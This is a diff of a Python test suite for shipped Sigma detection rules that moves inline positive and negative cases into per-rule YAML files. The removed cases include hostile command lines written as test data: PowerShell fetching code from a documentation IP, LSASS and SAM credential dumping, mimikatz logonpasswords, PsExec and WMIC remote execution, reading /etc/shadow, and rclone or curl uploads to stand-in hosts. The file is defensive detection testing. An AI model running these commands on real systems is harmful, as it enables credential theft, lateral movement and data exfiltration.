@@ -1,311 +1,102 @@
-"""Each rule we ship finds what it is for and leaves alone what only looks like it."""
+"""Each rule we ship finds what it is for and leaves alone what only looks like it: its cases lie beside it."""
 
 from __future__ import annotations
 
+import json
 from collections import Counter
+from collections.abc import Iterator
+from functools import lru_cache
 from importlib import resources
+from pathlib import Path
 from typing import Any
+from zoneinfo import ZoneInfo
 
 import pytest
 import yaml
 
 from detectors.sigma.engine import Engine
-from pipeline.rules import load_rules
-from schemas.event import Source
+from detectors.sigma.rule import Rule
+from pipeline.parsers import Reader
+from pipeline.rules import CASES, load_rules
+from pipeline.settings import TopicSettings, load
+from schemas.event import RecordBatch
 from schemas.severity import Severity
-from tests.sigma import SYSMON, event
+from tests.builders import FakeRecord
 
-PROCESS = Source("windows", "", SYSMON, 1)
-ACCESS = Source("windows", "", SYSMON, 10)
-CONNECTION = Source("windows", "", SYSMON, 3)
-SSHD = Source("linux", "", "sshd", 0)
-SUDO = Source("linux", "", "sudo", 0)
-AUDITD = Source("linux", "", "auditd", 0)
-ALERT = Source("suricata", "ids", "alert", 0)
-FLOW = Source("suricata", "", "flow", 0)
+FOLDER = Path(str(resources.files("detectors.sigma"))) / "rules"
+BANK = ZoneInfo("Asia/Almaty")
+RULES = {Path(rule.file).stem: rule for rule in load_rules((), zone=BANK).rules}
+#: 2026-01-01 UTC: when records without a time of their own happened.
+NEAR_MS = 1_767_225_600_000
 
-
-def _security(number: int) -> Source:
-    return Source("windows", "", "security", number)
+Case = dict[str, Any]
 
 
-def _system(number: int) -> Source:
-    return Source("windows", "", "system", number)
+@lru_cache
+def said(name: str) -> dict[str, Any]:
+    """The file of a rule's cases."""
+    found: dict[str, Any] = yaml.safe_load((FOLDER / f"{name}{CASES[0]}").read_text())
+    return found
 
 
-S32 = "C:\\Windows\\System32\\"
-OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
-SERVICES = "Service Control Manager"
-
-Fields = dict[str, Any]
-#: rule → (source, records that it finds, records that it leaves alone)
-CASES: dict[str, tuple[Source, list[Fields], list[Fields]]] = {
-    "office_starts_interpreter": (
-        PROCESS,
-        [
-            {"ParentImage": OFFICE + "WINWORD.EXE", "Image": S32 + "cmd.exe"},
-            {"ParentImage": OFFICE + "excel.exe", "Image": S32 + "WindowsPowerShell\\v1.0\\PowerShell.exe"},
-        ],
-        [
-            {"ParentImage": OFFICE + "WINWORD.EXE", "Image": "C:\\Windows\\splwow64.exe"},
-            {"ParentImage": "C:\\Windows\\explorer.exe", "Image": S32 + "cmd.exe"},
-        ],
-    ),
-    "powershell_fetches_code": (
-        PROCESS,
-        [
-            {"Image": S32 + "powershell.exe", "CommandLine": "powershell.exe -NoP -w hidden -enc SQBFAFgA"},
-            {"Image": S32 + "powershell.exe", "CommandLine": "powershell /EncodedCommand SQBFAFgA"},
-            {
-                "Image": S32 + "powershell.exe",
-                "CommandLine": "powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
-            },
-        ],
-        [
-            {
-                "Image": S32 + "powershell.exe",
-                "CommandLine": "powershell -File C:\\Admin\\Inventory.ps1 -Encoding utf8",
-            },
-            {"Image": S32 + "powershell.exe", "CommandLine": "powershell Invoke-WebRequest http://wsus.local/health"},
-        ],
-    ),
-    "lsass_memory_opened": (
-        ACCESS,
-        [{"SourceImage": "C:\\Users\\Public\\upd.exe", "TargetImage": S32 + "lsass.exe", "GrantedAccess": "0x1410"}],
-        [
-            {"SourceImage": "C:\\Users\\Public\\upd.exe", "TargetImage": S32 + "lsass.exe", "GrantedAccess": "0x1000"},
-            {
-                "SourceImage": "C:\\Program Files\\Scanner\\avp.exe",
-                "TargetImage": S32 + "lsass.exe",
-                "GrantedAccess": "0x1410",
-            },
-            {"SourceImage": S32 + "svchost.exe", "TargetImage": S32 + "lsass.exe", "GrantedAccess": "0x1410"},
-            {
-                "SourceImage": "C:\\Users\\Public\\upd.exe",
-                "TargetImage": S32 + "winlogon.exe",
-                "GrantedAccess": "0x1410",
-            },
-        ],
-    ),
-    "credentials_dumped": (
-        PROCESS,
-        [
-            {"Image": S32 + "rundll32.exe", "CommandLine": "rundll32 comsvcs.dll, MiniDump 712 C:\\d.bin full"},
-            {"Image": "C:\\t\\procdump64.exe", "CommandLine": "procdump64 /ma lsass.exe out.dmp"},
-            {"Image": S32 + "reg.exe", "CommandLine": "reg save HKLM\\SAM C:\\sam.hiv"},
-            {"Image": S32 + "ntdsutil.exe", "CommandLine": 'ntdsutil "ac i ntds" "ifm" "create full c:\\t" q q'},
-            {"Image": "C:\\t\\m.exe", "CommandLine": "m.exe privilege::debug sekurlsa::logonpasswords"},
-        ],
-        [
-            {"Image": S32 + "reg.exe", "CommandLine": "reg save HKLM\\SOFTWARE\\Bank C:\\b.hiv"},
-            {"Image": S32 + "reg.exe", "CommandLine": "reg query HKLM\\SAM"},
-            {"Image": "C:\\t\\procdump64.exe", "CommandLine": "procdump64 -ma abs.exe out.dmp"},
-        ],
-    ),
-    "service_runs_command": (
-        _system(7045),
-        [
-            {
-                "EventID": 7045,
-                "Provider_Name": SERVICES,
-                "ServiceName": "PSEXESVC",
-                "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
-            },
-            {
-                "EventID": 7045,
-                "Provider_Name": SERVICES,
-                "ServiceName": "x",
-                "ImagePath": "\\\\127.0.0.1\\ADMIN$\\x.exe",
-            },
-            {"EventID": 7045, "Provider_Name": SERVICES, "ServiceName": "y", "ImagePath": "%COMSPEC% /Q /c echo 1"},
-        ],
-        [
-            {
-                "EventID": 7045,
-                "Provider_Name": SERVICES,
-                "ServiceName": "klnagent",
-                "ImagePath": '"C:\\Program Files\\k.exe"',
-            }
-        ],
-    ),
-    "explicit_credentials_to_payment": (
-        _security(4648),
-        [{"EventID": 4648, "TargetServerName": "pay-gw-01.alatau.local", "SubjectUserSid": "S-1-5-21-1-2-3-1104"}],
-        [
-            {"EventID": 4648, "TargetServerName": "srv-fs-01", "SubjectUserSid": "S-1-5-21-1-2-3-1104"},
-            {"EventID": 4648, "TargetServerName": "pay-gw-01", "SubjectUserSid": "S-1-5-18"},
-        ],
-    ),
-    "remote_execution_tool": (
-        PROCESS,
-        [
-            {
-                "Image": S32 + "wbem\\WMIC.exe",
-                "CommandLine": 'wmic /node:srv-app-05 process call create "cmd /c whoami"',
-            },
-            {"Image": "C:\\t\\PsExec64.exe", "CommandLine": "psexec64 \\\\srv-app-05 -s cmd"},
-            {"Image": S32 + "winrs.exe", "CommandLine": "winrs -r:srv-app-05 whoami"},
-            {"Image": S32 + "schtasks.exe", "CommandLine": "schtasks /create /tn x /s srv-app-05 /tr c.exe"},
-            {"Image": S32 + "cmd.exe", "ParentImage": "C:\\Windows\\PSEXESVC.exe", "CommandLine": "cmd"},
-        ],
-        [
-            {"Image": S32 + "wbem\\WMIC.exe", "CommandLine": "wmic process list brief"},
-            {"Image": S32 + "schtasks.exe", "CommandLine": "schtasks /query /fo LIST"},
-            {"Image": S32 + "cmd.exe", "ParentImage": "C:\\Windows\\explorer.exe", "CommandLine": "cmd"},
-        ],
-    ),
-    "payment_server_reached": (
-        CONNECTION,
-        [
-            {
-                "Initiated": "true",
-                "DestinationHostname": "pay-gw-01",
-                "DestinationPort": port,
-                "Image": "C:\\Users\\Public\\plink.exe",
-            }
-            for port in (22, "22", 3389)
-        ],
-        [
-            {"Initiated": "true", "DestinationHostname": "pay-gw-01", "DestinationPort": 443, "Image": "C:\\x.exe"},
-            {
-                "Initiated": "true",
-                "DestinationHostname": "abs-core-02",
-                "DestinationPort": 1521,
-                "Image": "C:\\a\\abs.exe",
-            },
-            {"Initiated": "false", "DestinationHostname": "pay-gw-01", "DestinationPort": 22, "Image": "C:\\x.exe"},
-            {"Initiated": "true", "DestinationHostname": "mail-01", "DestinationPort": 22, "Image": "C:\\x.exe"},
-        ],
-    ),
-    "payment_gateway_password_login": (
-        SSHD,
-        [{"message": "Accepted password for payadm from 10.20.0.27 port 50122 ssh2", "hostname": "pay-gw-01"}],
-        [
-            {"message": "Accepted publickey for payadm from 10.20.0.27 port 50122 ssh2", "hostname": "pay-gw-01"},
-            {"message": "Failed password for payadm from 10.20.0.27 port 50122 ssh2", "hostname": "pay-gw-01"},
-            {"message": "Accepted password for ops from 10.20.0.27 port 50122 ssh2", "hostname": "lnx-03"},
-        ],
-    ),
-    "ssh_root_login": (
-        SSHD,
-        [{"message": "Accepted publickey for root from 10.20.0.27 port 50122 ssh2"}],
-        [
-            {"message": "Accepted publickey for rooter from 10.20.0.27 port 50122 ssh2"},
-            {"message": "Failed password for root from 10.20.0.27 port 50122 ssh2"},
-        ],
-    ),
-    "sudo_opens_secrets": (
-        SUDO,
-        [
-            {"message": "payadm : TTY=pts/0 ; PWD=/home/payadm ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow"},
-            {"message": "payadm : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash"},
-            {"message": "payadm : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/tcpdump -w /tmp/a"},
-        ],
-        [
-            {"message": "ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"},
-            {"message": "pam_unix(sudo:session): session opened for user root; /etc/shadow"},
-        ],
-    ),
-    "audit_reads_secrets": (
-        AUDITD,
-        [{"type": "PATH", "name": "/etc/shadow"}, {"type": "PATH", "name": "/opt/payments/keys/hsm.pem"}],
-        [{"type": "PATH", "name": "/etc/hosts"}, {"type": "SYSCALL", "name": "/etc/shadow"}],
-    ),
-    "audit_stopped": (
-        AUDITD,
-        [
-            {"type": "DAEMON_END"},
-            {"type": "CONFIG_CHANGE", "op": "remove_rule"},
-            {"type": "CONFIG_CHANGE", "audit_enabled": "0"},
-        ],
-        [{"type": "CONFIG_CHANGE", "op": "add_rule"}, {"type": "CONFIG_CHANGE", "audit_enabled": "1"}],
-    ),
-    "security_log_cleared": (_security(1102), [{"EventID": 1102}], []),
-    "event_log_cleared": (
-        _system(104),
-        [{"EventID": 104, "Provider_Name": "Microsoft-Windows-Eventlog"}],
-        [{"EventID": 104, "Provider_Name": "SomeDriver"}],
-    ),
-    "upload_tool": (
-        PROCESS,
-        [
-            {"Image": "C:\\t\\rclone.exe", "CommandLine": "rclone.exe copy D:\\out mega:out --config r.conf"},
-            {"Image": "C:\\t\\svc.exe", "OriginalFileName": "rclone.exe", "CommandLine": "svc sync a b"},
-            {"Image": S32 + "curl.exe", "CommandLine": "curl.exe -T out.7z https://files.example/u"},
-            {"Image": S32 + "curl.exe", "CommandLine": "curl --upload-file=out.7z https://files.example/u"},
-        ],
-        [
-            {"Image": S32 + "curl.exe", "CommandLine": "curl https://files.example/u"},
-            {"Image": S32 + "curl.exe", "CommandLine": "curl -T a http://localhost:8080/"},
-            {"Image": "C:\\t\\rclone.exe", "CommandLine": "rclone version"},
-        ],
-    ),
-    "large_upload": (
-        FLOW,
-        [
-            {
-                "event_type": "flow",
-                "src_ip": "10.40.2.1",
-                "dest_ip": "203.0.113.77",
-                "flow": {"bytes_toserver": 480_000_000},
-            }
-        ],
-        [
-            {
-                "event_type": "flow",
-                "src_ip": "10.4.2.1",
-                "dest_ip": "10.5.1.1",
-                "flow": {"bytes_toserver": 480_000_000},
-            },
-            {"event_type": "flow", "src_ip": "10.4.2.1", "dest_ip": "203.0.113.77", "flow": {"bytes_toserver": 4_800}},
-            {
-                "event_type": "flow",
-                "src_ip": "8.8.8.8",
-                "dest_ip": "203.0.113.7",
-                "flow": {"bytes_toserver": 480_000_000},
-            },
-        ],
-    ),
-    "ids_alert_severe": (
-        ALERT,
-        [{"event_type": "alert", "alert": {"severity": 1, "action": "allowed"}}],
-        [
-            {"event_type": "alert", "alert": {"severity": 2, "action": "allowed"}},
-            {"event_type": "alert", "alert": {"severity": 1, "action": "blocked"}},
-        ],
-    ),
-}
-
-LOADED = load_rules(())
+def cases() -> Iterator[tuple[str, Case]]:
+    """(rule, case), of all rules."""
+    return ((name, case) for name in RULES for case in said(name)["cases"])
 
 
-@pytest.mark.parametrize("name", CASES)
+def found(rule: Rule, source: dict[str, str], records: list[Any]) -> int:
+    """How many of these records the rule finds, each read by the parsers as a record of such a topic."""
+    topics = (TopicSettings(topic="case", **source),)
+    values = [each.encode() if isinstance(each, str) else json.dumps(each, default=str).encode() for each in records]
+    batch = [FakeRecord(place, value, NEAR_MS) for place, value in enumerate(values)]
+    reading = Reader(load().model_copy(update={"topics": topics})).read(
+        RecordBatch("log", "case", 0, 0, len(batch), batch)
+    )
+    assert not reading.dead, f"{rule.file}: record {reading.dead[0].offset} is no event"
+    return len({match.index for match in Engine([rule], BANK).match(reading.events)})
+
+
+@pytest.mark.parametrize("name", RULES)
 def test_a_rule_finds_its_cases_and_leaves_the_others_alone(name: str) -> None:
-    source, positive, negative = CASES[name]
-    (rule,) = [rule for rule in LOADED.rules if rule.file == f"shipped/{name}.yml"]
-    engine = Engine([rule])
-    assert [bool(engine.match([event(fields, source)])) for fields in positive] == [True] * len(positive)
-    assert [bool(engine.match([event(fields, source)])) for fields in negative] == [False] * len(negative)
+    source = said(name).get("source", {})
+    for case in said(name)["cases"]:
+        least = case.get("at_least", 1) if case.get("match", True) else 0
+        count = found(RULES[name], source, case["records"])
+        assert count >= least, (name, case["name"])
+        assert not count or least, (name, case["name"])
 
 
-def test_every_rule_has_its_cases_and_its_line_in_the_readme() -> None:
-    names = {rule.file.removeprefix("shipped/").removesuffix(".yml") for rule in LOADED.rules}
-    assert names == set(CASES)
-    readme = resources.files("detectors.sigma").joinpath("rules/README.md").read_text()
-    assert [name for name in names if f"| `{name}` |" not in readme] == []
+def test_every_rule_has_cases_of_both_kinds_and_its_line_in_the_readme() -> None:
+    kinds = {(name, case.get("match", True)) for name, case in cases()}
+    assert {(name, match) for name in RULES for match in (True, False)} == kinds
+    files = {path.name.removesuffix(CASES[0]) for path in FOLDER.glob(f"*{CASES[0]}")}
+    assert files == set(RULES)
+    readme = (FOLDER / "README.md").read_text()
+    assert [name for name in RULES if f"| `{name}` |" not in readme] == []
+
+
+def test_half_of_the_cases_records_are_not_of_our_making() -> None:
+    """Every case says where its records' values come from; a case of a recording or of a document names it."""
+    ours = public = 0
+    for name, case in cases():
+        assert case.get("origin"), (name, case["name"])
+        if case["origin"] == "ours":
+            ours += len(case["records"])
+        else:
+            public += len(case["records"])
+    assert public >= ours
 
 
 def test_every_rule_says_what_a_responder_needs() -> None:
-    for entry in resources.files("detectors.sigma").joinpath("rules").iterdir():
-        if entry.name.endswith(".yml"):
-            said = yaml.safe_load(entry.read_text())
-            assert {"id", "level", "status", "description", "tags"} <= set(said), entry.name
-            assert any(tag.startswith("attack.t") for tag in said["tags"]) or "command-and-control" in str(said["tags"])
+    for name in RULES:
+        rule = yaml.safe_load((FOLDER / f"{name}.yml").read_text())
+        assert {"id", "level", "status", "description", "tags"} <= set(rule), name
+        assert any(tag.startswith("attack.t") for tag in rule["tags"]) or "command-and-control" in str(rule["tags"])
 
 
 def test_every_stage_of_an_attack_has_a_rule_of_high_level() -> None:
     tactics = Counter(
-        tag.removeprefix("attack.") for rule in LOADED.rules if rule.level >= Severity.HIGH for tag in rule.tags
+        tag.removeprefix("attack.") for rule in RULES.values() if rule.level >= Severity.HIGH for tag in rule.tags
     )
-    for tactic in ("initial-access", "credential-access", "lateral-movement", "collection", "exfiltration"):
+    for tactic in ("initial-access", "credential-access", "lateral-movement", "collection", "exfiltration", "impact"):
         assert tactics[tactic], tactic
